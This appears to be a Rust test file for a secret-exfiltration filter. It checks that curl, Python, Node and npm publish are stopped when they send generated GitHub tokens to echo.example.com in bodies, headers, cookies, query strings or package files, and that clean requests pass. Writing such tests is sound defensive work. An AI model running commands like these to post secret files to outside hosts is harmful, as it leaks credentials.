//! curl, Python, Node and npm.

use exfilter_testing::{Rng, keys};

use crate::stage::{Stage, has};

#[test]
fn curl_over_http_1_and_2() {
    if !has("curl", &["--version"]) {
        return;
    }
    let stage = Stage::usual();
    let mut rng = Rng::new(1);
    let clean = rng.bytes(300_000);
    let file = stage.write("clean.bin", &clean);
    for protocol in ["--http1.1", "--http2-prior-knowledge"] {
        stage.server.forget();
        let data = format!("@{file}");
        let ran =
            stage.run(&["curl", "-sS", protocol, "--data-binary", &data, "https://echo.example.com/up?a=b"]);
        assert!(ran.ok && ran.said == "done\n", "{}", ran.said);
        let arrived = stage.server.requests();
        assert_eq!(arrived.len(), 1);
        assert!(arrived[0].body == clean && arrived[0].target == "/up?a=b" && arrived[0].method == "POST");
        assert_eq!(arrived[0].header("content-length").unwrap(), "300000");
        assert!(arrived[0].http2, "the server offers HTTP/2");

        let token = keys::github(&mut rng, "ghp_");
        let secret = stage.write("secret.txt", &[b"key = ", &token[..], b"\n"].concat());
        stage.server.forget();
        let data = format!("@{secret}");
        let ran =
            stage.run(&["curl", "-sS", protocol, "--data-binary", &data, "https://echo.example.com/up"]);
        assert!(
            ran.said.contains("secret detected in body") && ran.said.contains("github-pat"),
            "{}",
            ran.said
        );
        stage.nothing_arrived(&token);
        assert!(stage.server.requests().is_empty());
        let token = String::from_utf8(token).unwrap();
        for (part, place) in [
            (format!("X-Data: {token}"), "header:x-data"),
            (format!("Cookie: a={token}"), "cookie:a"),
            (format!("Authorization: Bearer {token}"), "header:authorization:bearer"),
        ] {
            let ran = stage.run(&["curl", "-sS", protocol, "-H", &part, "https://echo.example.com/"]);
            assert!(ran.said.contains(&format!("secret detected in {place}")), "{}", ran.said);
        }
        let url = format!("https://echo.example.com/a?q={token}");
        assert!(stage.run(&["curl", "-sS", protocol, &url]).said.contains("secret detected in query:q"));
        stage.nothing_arrived(token.as_bytes());
        assert!(stage.server.requests().is_empty());
        // At home it passes.
        let bearer = format!("Authorization: Bearer {token}");
        let ran = stage.run(&["curl", "-sS", protocol, "-H", &bearer, "https://api.github.com/user"]);
        assert_eq!(ran.said, "done\n");
    }
}

#[test]
fn plain_http() {
    if !has("curl", &["--version"]) {
        return;
    }
    let stage = Stage::usual();
    let ran = stage.run(&["curl", "-sS", "-d", "hello", "http://echo.example.com/x?y"]);
    assert_eq!(ran.said, "done\n");
    let arrived = stage.server.requests();
    assert!(arrived[0].body == b"hello" && arrived[0].target == "/x?y");
    assert_eq!(arrived[0].header("host").unwrap(), "echo.example.com");
    assert!(arrived[0].header("proxy-connection").is_none());
    let token = String::from_utf8(keys::github(&mut Rng::new(2), "ghp_")).unwrap();
    stage.server.forget();
    let ran = stage.run(&["curl", "-sS", "-d", &token, "http://echo.example.com/x"]);
    assert!(ran.said.contains("secret detected in body"), "{}", ran.said);
    // The same through a tunnel without TLS.
    let ran = stage.run(&["curl", "-sS", "-p", "-d", &token, "http://echo.example.com/x"]);
    assert!(ran.said.contains("secret detected in body"), "{}", ran.said);
    stage.nothing_arrived(token.as_bytes());
    let ran = stage.run(&["curl", "-sS", "-p", "-d", "clean", "http://echo.example.com/x"]);
    assert_eq!(ran.said, "done\n");
}

#[test]
fn python_and_node() {
    let stage = Stage::usual();
    let token = String::from_utf8(keys::github(&mut Rng::new(3), "ghp_")).unwrap();
    if has("python3", &["--version"]) {
        let script = "import sys, urllib.request as u, urllib.error as e\n\
                      try: print(u.urlopen('https://echo.example.com/py', data=sys.argv[1].encode()).read())\n\
                      except e.HTTPError as x: print(x.code, x.read())\n";
        let file = stage.write("client.py", script.as_bytes());
        let ran = stage.run(&["python3", &file, "clean"]);
        assert!(ran.ok && ran.said.contains("done"), "{}", ran.said);
        let ran = stage.run(&["python3", &file, &token]);
        assert!(ran.ok && ran.said.contains("403") && ran.said.contains("secret detected"), "{}", ran.said);
    }
    // `fetch` asks the environment for a proxy from Node 22.21 and 24 on.
    let knows = "process.exit(+!(process.allowedNodeEnvironmentFlags.has('--use-env-proxy')))";
    if has("node", &["-e", knows]) {
        let script = "fetch('https://echo.example.com/n', {method: 'POST', body: process.argv[2]})\
                      .then(async r => console.log(r.status, await r.text()))";
        let file = stage.write("client.mjs", script.as_bytes());
        let proxied = [("NODE_USE_ENV_PROXY", "1")];
        let ran = stage.run_in(stage.dir.path(), &proxied, &["node", &file, "clean"]);
        assert!(ran.said.contains("200 done"), "{}", ran.said);
        let ran = stage.run_in(stage.dir.path(), &proxied, &["node", &file, &token]);
        assert!(ran.said.contains("403") && ran.said.contains("secret detected"), "{}", ran.said);
    }
    stage.nothing_arrived(token.as_bytes());
}

#[test]
fn npm_publish() {
    if !has("npm", &["--version"]) {
        return;
    }
    let stage = Stage::usual();
    let token = keys::github(&mut Rng::new(4), "ghp_");
    let package = stage.dir.path().join("package");
    std::fs::create_dir(&package).unwrap();
    std::fs::write(package.join("package.json"), r#"{"name":"exfilter-demo","version":"1.0.0"}"#).unwrap();
    std::fs::write(package.join("index.js"), "module.exports = 1\n").unwrap();
    std::fs::write(
        stage.path(".npmrc"),
        "//registry.npmjs.org/:_authToken=abcdefghijkl\nfetch-retries=0\nupdate-notifier=false\n",
    )
    .unwrap();
    let publish = || stage.run_in(&package, &[], &["npm", "publish", "--loglevel", "notice"]);
    let ran = publish();
    assert!(ran.ok && ran.said.contains("+ exfilter-demo@1.0.0"), "{}", ran.said);
    assert!(stage.server.requests().iter().any(|request| request.method == "PUT"));
    stage.server.forget();
    let line = [b"const key = '", &token[..], b"'\n"].concat();
    std::fs::write(package.join("index.js"), line).unwrap();
    let ran = publish();
    assert!(
        !ran.ok && ran.said.contains("secret detected in") && ran.said.contains("index.js:1"),
        "{}",
        ran.said
    );
    stage.nothing_arrived(&token);
    assert!(stage.server.requests().iter().all(|request| request.method != "PUT"));
}
